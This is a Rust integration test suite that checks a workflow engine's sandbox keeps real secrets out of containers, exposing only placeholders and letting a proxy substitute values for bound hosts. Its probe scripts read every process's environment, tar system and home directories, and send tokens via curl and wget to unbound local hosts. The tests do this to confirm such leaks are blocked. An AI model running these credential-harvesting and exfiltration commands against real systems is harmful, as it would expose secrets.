//! Secrets never enter the sandbox, through `iterion run` on the real engine: a tool node and a claw agent each
//! call a local HTTPS endpoint (a TLS front with a CA of its own, trusted by the run's proxy through
//! `ITERION_SANDBOX_TLS_UPSTREAM_CA`) and a local plain-HTTP endpoint that must receive the real value; every
//! process of the container sees only the placeholder; the placeholder sent to an allowed host it is not bound
//! to is blocked with a `network_blocked` event naming the secret; the value is in no store file, event or log.
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use iterion_test_support::docker_http::request;
use iterion_test_support::fake_provider::{FakeProvider, Reply};
use iterion_test_support::upstream::{Recorder, TlsFront};
use iterion_test_support::{containers_of, engine_required, engine_socket};
use serde_json::{Value, json};

const BIN: &str = env!("CARGO_BIN_EXE_iterion");

/// The real values: they must reach the bound endpoints and nothing else.
const GH_VALUE: &str = "ghp_REALVALUE_7f3a9c1e5b2d4f6a8c0e";
const DEPLOY_VALUE: &str = "deploy-key-REALVALUE-19e4b7";
const MODEL_KEY: &str = "sk-ant-REALVALUE-5c8d2e9f1a3b";

struct Ws {
    dir: tempfile::TempDir,
}

impl Ws {
    fn new(image: &str, workflow: &str) -> Ws {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        std::fs::create_dir_all(ws.join(".devcontainer")).unwrap();
        std::fs::write(
            ws.join(".devcontainer/devcontainer.json"),
            format!(r#"{{"image": "{image}"}}"#),
        )
        .unwrap();
        std::fs::write(ws.join("flow.bot"), workflow).unwrap();
        std::fs::create_dir_all(dir.path().join("home")).unwrap();
        Ws { dir }
    }

    fn path(&self) -> PathBuf {
        self.dir.path().join("ws")
    }

    fn store(&self) -> PathBuf {
        self.dir.path().join("store")
    }

    fn write_ca(&self, pem: &str) -> PathBuf {
        let p = self.dir.path().join("upstream-ca.pem");
        std::fs::write(&p, pem).unwrap();
        p
    }

    async fn run(&self, args: &[&str], env: &[(&str, String)]) -> Output {
        let mut c = std::process::Command::new(BIN);
        c.arg("run")
            .arg("flow.bot")
            .args(args)
            .arg("--store-dir")
            .arg(self.store())
            .current_dir(self.path())
            .env("HOME", self.dir.path().join("home"))
            .env("ITERION_SANDBOX_PULL_POLICY", "never")
            .env("ITERION_ENVELOPE_HANDSHAKE_TIMEOUT", "30s")
            .env_remove("ITERION_SANDBOX_DEFAULT")
            .env_remove("ITERION_SANDBOX_FLOOR")
            .env_remove("ITERION_SANDBOX_PROVIDER_KEYS")
            .env_remove("ITERION_HOME")
            .env_remove("ITERION_BIN")
            .env_remove("ANTHROPIC_API_KEY")
            .env_remove("ANTHROPIC_BASE_URL")
            .env_remove("GH_TOKEN");
        for (k, v) in env {
            c.env(k, v);
        }
        tokio::task::spawn_blocking(move || c.output().unwrap())
            .await
            .unwrap()
    }

    fn events(&self) -> Vec<Value> {
        let runs = self.store().join("runs");
        let id = std::fs::read_dir(&runs)
            .unwrap()
            .flatten()
            .next()
            .unwrap()
            .file_name();
        std::fs::read_to_string(runs.join(id).join("events.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.path().join(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
    }
}

impl Drop for Ws {
    fn drop(&mut self) {
        let Ok(rd) = std::fs::read_dir(self.store().join("runs")) else {
            return;
        };
        for id in rd.flatten() {
            for c in containers_of(&id.file_name().to_string_lossy()) {
                if let Some(sock) = engine_socket() {
                    let _ = request(
                        &sock,
                        "DELETE",
                        &format!("/containers/{c}?force=1&v=1"),
                        None,
                        b"",
                        Duration::from_secs(10),
                    );
                }
            }
        }
    }
}

fn show(out: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Every file under `dir` (the run store) whose bytes contain `needle`.
fn files_containing(dir: &Path, needle: &str) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else { continue };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(ft) = e.file_type() else { continue };
            if ft.is_dir() {
                stack.push(p);
            } else if ft.is_file()
                && let Ok(bytes) = std::fs::read(&p)
                && bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
            {
                out.push(p);
            }
        }
    }
    out
}

fn of_type<'a>(events: &'a [Value], t: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["type"] == t).collect()
}

/// The container-side dump every test node writes: the environment of every process it can read and a tar of
/// the places a secret could have been written to.
const DUMP: &str = r"env > env.txt; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < $f 2>/dev/null; done > environ.txt; tar cf fs.tar /etc /run /tmp /root /home /usr/local 2>/dev/null; true";

#[tokio::test(flavor = "multi_thread")]
async fn a_tool_node_s_secret_reaches_only_its_bound_hosts_and_only_as_a_placeholder() {
    if !engine_required("a_tool_node_s_secret_reaches_only_its_bound_hosts_and_only_as_a_placeholder") {
        return;
    }
    let image = iterion_test_support::docker_image::ensure_curl_image().unwrap();
    let plain = Recorder::start().await.unwrap();
    let behind_tls = Recorder::start().await.unwrap();
    let front = TlsFront::start(behind_tls.addr()).await.unwrap();
    let unbound = Recorder::start().await.unwrap();
    let (p, t, q) = (plain.addr().port(), front.addr().port(), unbound.addr().port());
    let script = format!(
        r#"curl --noproxy '' -sS -o /dev/null -w 'tls=%{{http_code}}\n' -H "Authorization: Bearer $GH_TOKEN" https://127.0.0.1:{t}/tls > out.txt 2>&1
curl --noproxy '' -sS -o /dev/null -w 'plain=%{{http_code}}\n' -H "Authorization: Bearer $GH_TOKEN" http://127.0.0.1:{p}/plain >> out.txt 2>&1
curl --noproxy '' -sS -o /dev/null -w 'leak=%{{http_code}}\n' -H "X-Leak: $GH_TOKEN" http://127.0.0.1:{q}/leak >> out.txt 2>&1
if [ -r "$DEPLOY_KEY" ]; then echo "file=$DEPLOY_KEY" >> out.txt; fi
if echo x 2>/dev/null > "$DEPLOY_KEY"; then echo file-writable >> out.txt; fi
{DUMP}
"#
    );
    let command = "sh ./probe.sh";
    let workflow = format!(
        "tool call:\n  command: \"{command}\"\n\nworkflow w:\n  entry: call\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      preset: none\n      rules: [\"127.0.0.1:{p}\", \"127.0.0.1:{t}\", \"127.0.0.1:{q}\"]\n    secrets:\n      GH_TOKEN:\n        hosts: [\"127.0.0.1:{t}\", \"127.0.0.1:{p}\"]\n        plain_http: true\n      DEPLOY_KEY:\n        as: file\n  call -> done\n"
    );
    let ws = Ws::new(&image, &workflow);
    std::fs::write(ws.path().join("probe.sh"), script).unwrap();
    let ca = ws.write_ca(front.ca_pem());
    let out = ws
        .run(
            &["--secret", "GH_TOKEN", "--secret", "DEPLOY_KEY"],
            &[
                ("GH_TOKEN", GH_VALUE.into()),
                ("DEPLOY_KEY", DEPLOY_VALUE.into()),
                ("ITERION_SANDBOX_TLS_UPSTREAM_CA", ca.display().to_string()),
            ],
        )
        .await;
    assert!(out.status.success(), "{}", show(&out));
    let results = ws.read("out.txt");
    assert!(results.contains("tls=200"), "{results}");
    assert!(results.contains("plain=200"), "{results}");
    assert!(results.contains("leak=403"), "{results}");
    assert!(
        results.contains("file=/run/iterion/secrets/DEPLOY_KEY"),
        "{results}"
    );
    assert!(!results.contains("file-writable"), "{results}");
    // the bound endpoints received the real value, over TLS and over plain HTTP; the unbound one nothing
    let tls = behind_tls.requests();
    assert_eq!(tls.len(), 1, "{tls:?}");
    assert_eq!(
        tls[0].header("authorization"),
        Some(format!("Bearer {GH_VALUE}").as_str())
    );
    let pl = plain.requests();
    assert_eq!(pl.len(), 1, "{pl:?}");
    assert_eq!(
        pl[0].header("authorization"),
        Some(format!("Bearer {GH_VALUE}").as_str())
    );
    assert!(unbound.requests().is_empty(), "{:?}", unbound.requests());
    // inside the container: placeholders only
    let env = ws.read("env.txt");
    let ph = env
        .lines()
        .find_map(|l| l.strip_prefix("GH_TOKEN="))
        .unwrap_or_else(|| panic!("no GH_TOKEN in {env}"));
    assert!(ph.starts_with("iterion-ph-"), "{ph}");
    for name in ["env.txt", "environ.txt"] {
        assert!(!ws.read(name).contains(GH_VALUE), "{name} holds the value");
    }
    let fs = std::fs::read(ws.path().join("fs.tar")).unwrap();
    assert!(fs.len() > 1024, "the tar of the container's files is empty");
    assert!(!fs.windows(GH_VALUE.len()).any(|w| w == GH_VALUE.as_bytes()));
    // the events: the binding (no value), the blocked leak naming the secret, the substitutions
    let ev = ws.events();
    let started = of_type(&ev, "sandbox_network_started");
    assert_eq!(started[0]["data"]["tls_inspection"], json!(true));
    let names: Vec<&Value> = started[0]["data"]["secrets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| &s["name"])
        .collect();
    assert_eq!(names, vec![&json!("GH_TOKEN")]);
    let blocked = of_type(&ev, "network_blocked");
    assert!(
        blocked
            .iter()
            .any(|b| b["data"]["reason"] == "secret leak" && b["data"]["secret"] == "GH_TOKEN"),
        "{blocked:?}"
    );
    let subs = of_type(&ev, "secret_substituted");
    assert!(!subs.is_empty(), "no secret_substituted event");
    // the values are nowhere in the store, the output or the host's temporary directory of the run
    for v in [GH_VALUE, DEPLOY_VALUE] {
        assert_eq!(
            files_containing(&ws.store(), v),
            Vec::<PathBuf>::new(),
            "the store holds a value"
        );
        assert!(!String::from_utf8_lossy(&out.stdout).contains(v));
        assert!(!String::from_utf8_lossy(&out.stderr).contains(v));
    }
    let leftovers: Vec<_> = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("iterion-secrets-"))
        .filter(|e| !files_containing(&e.path(), DEPLOY_VALUE).is_empty())
        .collect();
    assert!(
        leftovers.is_empty(),
        "the file secret outlived its run: {leftovers:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_the_operator_did_not_grant_never_reaches_the_sandbox() {
    if !engine_required("a_secret_the_operator_did_not_grant_never_reaches_the_sandbox") {
        return;
    }
    // a hostile workflow asks for the operator's token and binds it to a host of its choice
    let bad = Recorder::start().await.unwrap();
    let port = bad.addr().port();
    let script = format!(
        "wget -q -O- --header \"X: $GH_TOKEN\" http://127.0.0.1:{port}/ > /dev/null 2>&1\nenv > env.txt\n"
    );
    let command = "sh ./probe.sh";
    let workflow = format!(
        "tool call:\n  command: \"{command}\"\n\nworkflow w:\n  entry: call\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      preset: none\n      rules: [\"127.0.0.1:{port}\"]\n    secrets:\n      GH_TOKEN: [\"127.0.0.1:{port}\"]\n  call -> done\n"
    );
    let ws = Ws::new("iterion-test/busybox:latest", &workflow);
    std::fs::write(ws.path().join("probe.sh"), script).unwrap();
    let out = ws.run(&[], &[("GH_TOKEN", GH_VALUE.into())]).await;
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        !ws.read("env.txt").contains("GH_TOKEN"),
        "an ungranted secret reached the sandbox"
    );
    for r in bad.requests() {
        assert!(!r.head.contains(GH_VALUE), "{r:?}");
    }
    let log = String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    let run_log = files_containing(&ws.store(), "did not grant it");
    assert!(
        !run_log.is_empty() || log.contains("did not grant it"),
        "no warning: {log}"
    );
}

/// The scripted model for the claw cases: one `bash` call dumping what the runner's tools can see, then the
/// answer.
fn claw_script() -> Vec<Reply> {
    vec![
        Reply::ToolCalls(String::new(), vec![("bash".into(), json!({ "command": DUMP }))]),
        Reply::text("{\"ok\": true}"),
    ]
}

fn claw_flow(rules: &str) -> String {
    format!(
        "schema result:\n  ok: bool\n\nprompt ask:\n  Look around.\n\nagent a:\n  model: \"claude-test\"\n  user: ask\n  tools: [bash]\n  output: result\n\nworkflow w:\n  entry: a\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      preset: none\n      rules: [{rules}]\n  a -> done when ok\n  a -> fail\n"
    )
}

async fn claw_case(https: bool) {
    let fake = FakeProvider::start(claw_script()).await.unwrap();
    let front = TlsFront::start(fake.url().trim_start_matches("http://").parse().unwrap())
        .await
        .unwrap();
    let (base, port) = if https {
        (
            format!("https://127.0.0.1:{}", front.addr().port()),
            front.addr().port(),
        )
    } else {
        (
            fake.url(),
            fake.url().rsplit(':').next().unwrap().parse::<u16>().unwrap(),
        )
    };
    let ws = Ws::new(
        "iterion-test/busybox:latest",
        &claw_flow(&format!("\"127.0.0.1:{port}\"")),
    );
    let ca = ws.write_ca(front.ca_pem());
    let out = ws
        .run(
            &[],
            &[
                ("ANTHROPIC_API_KEY", MODEL_KEY.into()),
                ("ANTHROPIC_BASE_URL", base),
                ("ITERION_SANDBOX_TLS_UPSTREAM_CA", ca.display().to_string()),
            ],
        )
        .await;
    assert!(out.status.success(), "{}", show(&out));
    // the provider received the real key on every call
    let reqs = fake.requests();
    assert!(reqs.len() >= 2, "{reqs:?}");
    for r in &reqs {
        assert!(r.auth_is("x-api-key", MODEL_KEY), "not the real key: {r:?}");
    }
    // the runner's own tools found no key (the runner keeps provider variables from them), nor did any
    // other process of the container, nor its files
    for name in ["env.txt", "environ.txt"] {
        assert!(!ws.read(name).contains(MODEL_KEY), "{name} holds the key");
    }
    let fs = std::fs::read(ws.path().join("fs.tar")).unwrap();
    assert!(!fs.windows(MODEL_KEY.len()).any(|w| w == MODEL_KEY.as_bytes()));
    let ev = ws.events();
    let started = of_type(&ev, "sandbox_network_started");
    let secrets = &started[0]["data"]["secrets"];
    assert_eq!(secrets[0]["name"], json!("ANTHROPIC_API_KEY"), "{secrets}");
    assert_eq!(secrets[0]["source"], json!("provider"), "{secrets}");
    // the runner sent the placeholder, and the proxy put the key in
    let subs = of_type(&ev, "secret_substituted");
    assert!(
        subs.iter().any(|s| s["data"]["secret"] == "ANTHROPIC_API_KEY"),
        "the runner sent its key itself: no substitution in {subs:?}"
    );
    assert_eq!(files_containing(&ws.store(), MODEL_KEY), Vec::<PathBuf>::new());
    assert!(!String::from_utf8_lossy(&out.stdout).contains(MODEL_KEY));
    assert!(!String::from_utf8_lossy(&out.stderr).contains(MODEL_KEY));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_claw_agent_s_provider_key_reaches_a_plain_http_endpoint_only_through_the_proxy() {
    if !engine_required("a_claw_agent_s_provider_key_reaches_a_plain_http_endpoint_only_through_the_proxy") {
        return;
    }
    claw_case(false).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_claw_agent_s_provider_key_reaches_an_https_endpoint_only_through_the_proxy() {
    if !engine_required("a_claw_agent_s_provider_key_reaches_an_https_endpoint_only_through_the_proxy") {
        return;
    }
    claw_case(true).await;
}

/// A stand-in agent CLI: calls the model endpoint with its key the way the real CLI does (through the proxy
/// variables), and reports whether the key it was given is a placeholder.
const AGENT: &str = r#"#!/bin/sh
cat > /dev/null
curl --noproxy '' -sS -o /dev/null -X POST -H "content-type: application/json" -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' "$ANTHROPIC_BASE_URL/v1/messages" 2>/dev/null
case "$ANTHROPIC_API_KEY" in iterion-ph-*) k=placeholder;; *) k=other;; esac
printf '{"result":"key=%s","session_id":"s"}\n' "$k"
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_claude_code_node_s_key_is_a_placeholder_the_proxy_replaces() {
    if !engine_required("a_claude_code_node_s_key_is_a_placeholder_the_proxy_replaces") {
        return;
    }
    let image = iterion_test_support::docker_image::ensure_curl_image().unwrap();
    let fake = FakeProvider::start(vec![Reply::text("ok")]).await.unwrap();
    let port: u16 = fake.url().rsplit(':').next().unwrap().parse().unwrap();
    let workflow = format!(
        "agent a:\n  backend: \"claude_code\"\n\nworkflow w:\n  entry: a\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      preset: none\n      rules: [\"127.0.0.1:{port}\"]\n  a -> done\n"
    );
    let ws = Ws::new(&image, &workflow);
    std::fs::write(ws.path().join("claude"), AGENT).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(ws.path().join("claude"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = ws
        .run(
            &[],
            &[
                ("ANTHROPIC_API_KEY", MODEL_KEY.into()),
                ("ANTHROPIC_BASE_URL", fake.url()),
                ("ITERION_CLAUDE_BIN", "./claude".into()),
            ],
        )
        .await;
    assert!(out.status.success(), "{}", show(&out));
    let ev = ws.events();
    let finished = ev
        .iter()
        .find(|e| e["type"] == "node_finished" && e["node_id"] == "a")
        .unwrap_or_else(|| panic!("no node_finished in {ev:?}"));
    assert_eq!(
        finished["data"]["output"]["text"],
        json!("key=placeholder"),
        "{finished}"
    );
    let reqs = fake.requests();
    assert_eq!(reqs.len(), 1, "{reqs:?}");
    assert!(
        reqs[0].auth_is("x-api-key", MODEL_KEY),
        "the endpoint did not get the real key: {reqs:?}"
    );
    assert_eq!(files_containing(&ws.store(), MODEL_KEY), Vec::<PathBuf>::new());
}
